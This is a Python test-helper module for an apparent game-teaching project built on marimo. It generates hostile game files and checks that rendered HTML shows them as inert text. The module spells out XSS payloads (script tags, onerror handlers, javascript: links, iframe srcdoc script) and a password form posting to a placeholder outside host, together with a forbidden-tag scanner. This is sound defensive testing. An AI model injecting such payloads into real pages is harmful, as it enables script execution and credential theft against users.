"""Hostile game files: titles, player names and move notes that try to run script, insert
elements or links, or garble the page, and a checker that HTML (or Markdown, rendered by
marimo's own converter) shows them as text.

The corpus on disk is ``tests/fixtures/hostile/*.json`` (the browser test pastes one of them);
:func:`hostile_variant` turns any game file into a hostile one (its players renamed, a hostile
title, a hostile note on every move), so the unit tests can run every bundled game through
every view.

Every payload that would run script sets ``window.__pwned`` or the document's title, or opens
an ``alert``: a browser test sees at once if one ran.
"""

from __future__ import annotations

import copy
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

CORPUS = Path(__file__).resolve().parent / "fixtures" / "hostile"

#: a host no page ever loads from (TEST-NET-2): a request to it means a link or image got out
OUTSIDE = "http://198.51.100.7"

#: Player names: whatever a name may hold (no control characters; the engine refuses those).
HOSTILE_NAMES = (
    "<img src=x onerror=\"window.__pwned='name-img'\">Ann",
    "[Bob](javascript:window.__pwned='name-link')",
    f"![Cy]({OUTSIDE}/cy.png) **Cy** 🐉",
    "<script>document.title='pwned'</script>Dee",
    "<style>*{display:none}</style>Eve",
    f'<form action="{OUTSIDE}/f"><input type="password" name="pw"></form>Fay',
    '"><svg onload=alert(1)>Gus',
    "Hal $x^2$ :smile: ::mdi:home:: ++ctrl++ {++ins++} ~~del~~ www.example.com h@example.com",
)

#: A title: script in an iframe's srcdoc, an RTL override, a control character, emoji.
HOSTILE_TITLE = (
    "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>"
    "Title \u202eevil\u202c bell\x07 🏰 <script>window.__pwned='title'</script>"
)

#: Move notes, one per move in turn.
HOSTILE_NOTES = (
    "<script>window.__pwned='note'</script>Note one",
    "<img src=x onerror=\"alert('note-img')\"> Note two",
    "<style>body{display:none}</style> Note three",
    f'<form action="{OUTSIDE}/steal"><input type="password" name="pw"></form> Note four',
    "[click here](javascript:window.__pwned='note-link') Note five",
    f"![pixel]({OUTSIDE}/pixel.png) Note six",
    f'<a href="javascript:alert(1)">a</a> <iframe src="{OUTSIDE}/"></iframe> Note seven',
    "Note eight\n\n# not a heading\n- not a list\n1. nor this\n    nor code\n| a | b |",
    "Note nine \u202eRTL override\u202c and \u2066isolate, NUL\x00 ESC\x1b[31m 🐉🏰",
    "Note ten <b onmouseover=alert(1)>bold?</b> &amp; &lt;script&gt; \\*not* `code`",
)

#: marimo's JSON attributes whose strings its page renders as HTML (the others as text)
MARKUP_ATTRIBUTES = {"data-label", "data-labels", "data-tabs", "data-html"}

#: marimo's widgets that show all their JSON attributes as text (a stat's label is not HTML)
TEXT_WIDGETS = {"marimo-stat"}

#: what a style sheet from a game's text would say (the drawings have style sheets of their own)
HOSTILE_CSS = ("display:none", "*{", "body{")

#: the elements no game text may ever become (and ``<style>`` saying :data:`HOSTILE_CSS`)
FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "frame",
    "object",
    "embed",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "button",
    "textarea",
    "img",
    "a",
    "audio",
    "video",
    "source",
}


def hostile_variant(data: dict[str, Any], names: tuple[str, ...] = HOSTILE_NAMES) -> dict[str, Any]:
    """``data`` (a decoded game file) with its players renamed to ``names`` (in seat order;
    figure ids and ``player`` fields follow), the hostile title, and a hostile note on every
    move."""
    players = data["setup"]["players"]
    rename = dict(zip(players, names, strict=False))

    def walk(value: Any) -> Any:
        if isinstance(value, dict):
            return {k: walk(v) for k, v in value.items()}
        if isinstance(value, list):
            return [walk(v) for v in value]
        if isinstance(value, str):
            if value in rename:
                return rename[value]
            owner, colon, rest = value.partition(":")  # a figure id: "Alice:follower3"
            if colon and owner in rename:
                return f"{rename[owner]}:{rest}"
        return value

    out = walk(copy.deepcopy(data))
    out["title"] = HOSTILE_TITLE
    for k, move in enumerate(out.get("moves", [])):
        move["note"] = HOSTILE_NOTES[k % len(HOSTILE_NOTES)]
    return out


def corpus_files() -> list[Path]:
    return sorted(CORPUS.glob("*.json"))


def load_corpus(path: Path):
    from carc_teach.gamefile import decode_game_text, load_game

    return load_game(decode_game_text(path.read_text("utf-8"), source=path.name), source=path.name)


def shown(text: str) -> str:
    """How a page shows ``text``: blanks collapsed; control and bidirectional-override
    characters as U+FFFD (what :mod:`carc_teach.text` promises)."""
    text = re.sub(
        r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", "\ufffd", text
    )
    return " ".join(text.split())


def _stepper_control(tag: str, attrs: dict[str, str | None]) -> bool:
    """One of the walkthrough stepper's own controls (carc_teach.stepper), written by Python
    with no game text in it: a step button, a tab, a choice of the question's radio, the event
    slider, or the hidden iframe carrying its script and data. Only these exact forms pass."""
    if tag == "button":
        return (
            attrs.get("data-go") in ("first", "previous", "next", "jump", "last")
            or (attrs.get("role") == "tab" and (attrs.get("data-tab") or "").isdigit())
            or (attrs.get("role") == "radio" and (attrs.get("data-choice") or "").isdigit())
        )
    if tag == "input":
        return attrs.get("type") == "range" and attrs.get("class") == "carc-step-slider"
    if tag == "iframe":
        if attrs.get("class") == "carc-language-memory":  # the page's language, remembered
            return attrs.get("srcdoc") in _language_memory_scripts()
        return attrs.get("class") == "carc-stepper-script"
    return False


def _language_memory_scripts() -> set[str]:
    """The documents of the hidden frame a page remembers its language with
    (carc_teach.i18n.switch), one per language: only these exact ones pass."""
    import html

    from carc_teach.i18n import LANGUAGES
    from carc_teach.i18n.switch import language_memory_html

    found = set()
    for lang in LANGUAGES:
        frame = re.search(r'srcdoc="([^"]*)"', language_memory_html(lang))
        found.add(html.unescape(frame.group(1)))
    return found


def _stepper_pieces(document: str) -> list[str]:
    """The pieces of HTML a stepper's iframe document hands to the page (its data's JSON)."""
    found = re.search(
        r'<script type="application/json" id="carc-step-data">(.*?)</script>', document, re.S
    )
    assert found, "a stepper iframe without its data"
    data = json.loads(found.group(1))
    questions = [frame["q"] for frame in data["frames"] if frame["q"]]
    return [
        *data["pieces"],
        *(q[key] for q in questions for key in ("radio", "yes", "no")),
    ]


class _Scan(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.nested: list[str] = []
        self.style: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if _stepper_control(tag, dict(attrs)):
            if tag == "iframe" and dict(attrs).get("class") == "carc-stepper-script":
                # the stepper's script: what it shows is its data's pieces
                self.nested.extend(_stepper_pieces(dict(attrs)["srcdoc"] or ""))
            return
        if tag == "style":
            self.style = []
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")
            if re.search(r"^\s*(javascript|vbscript|data)\s*:", value, re.I) and name in (
                "href",
                "src",
                "action",
                "xlink:href",
                "formaction",
                "srcdoc",
            ):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "xlink:href", "action") and OUTSIDE in value:
                self.problems.append(f"<{tag} {name}={value!r}> points outside")
            if name == "srcdoc":
                self.problems.append(f"<{tag} srcdoc>")
            # marimo keeps a widget's label (HTML its page renders) and options (text) in JSON
            if name.startswith("data-") and value[:1] in "[{\"'":
                try:
                    decoded = json.loads(value)
                except ValueError:
                    continue
                if name in MARKUP_ATTRIBUTES and tag not in TEXT_WIDGETS:
                    self.nested.extend(_strings(decoded))
                else:
                    self.text.extend(f" {s} " for s in _strings(decoded))

    def handle_endtag(self, tag: str) -> None:
        if tag == "style" and self.style is not None:
            css = "".join("".join(self.style).split())
            if any(bad in css for bad in HOSTILE_CSS):
                self.problems.append(f"<style> element saying {css[:60]!r}")
            self.style = None

    def handle_data(self, data: str) -> None:
        if self.style is not None:
            self.style.append(data)
        else:
            self.text.append(data)


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    return []


def scan_html(markup: str) -> tuple[list[str], str]:
    """``(problems, text)``: every element, event handler or outside link that no game text
    may become (also inside the HTML marimo keeps in widgets' JSON attributes), and the text
    the page shows (blanks collapsed; a widget's text after the page's own)."""
    scan = _Scan()
    scan.feed(markup)
    scan.close()
    problems, texts = list(scan.problems), [" ".join("".join(scan.text).split())]
    for inner in scan.nested:
        if "<" in inner or "&" in inner:
            more, text = scan_html(inner)
            problems += more
            texts.append(text)
        else:
            texts.append(" ".join(inner.split()))
    return problems, " ".join(t for t in texts if t)


def markdown_html(markdown: str) -> str:
    """``markdown`` as marimo's ``mo.md`` turns it into HTML."""
    import marimo as mo

    return mo.md(markdown).text


def assert_inert(markup: str, *, expect: tuple[str, ...] = (), where: str = "") -> str:
    """Assert that ``markup`` (HTML) holds no element, handler or link from a game's text,
    and shows each of ``expect`` literally (as :func:`shown`); return the text shown."""
    problems, text = scan_html(markup)
    assert not problems, f"{where}: {problems[:5]}"
    for literal in expect:
        assert shown(literal) in text, f"{where}: {shown(literal)!r} is not shown as text"
    return text
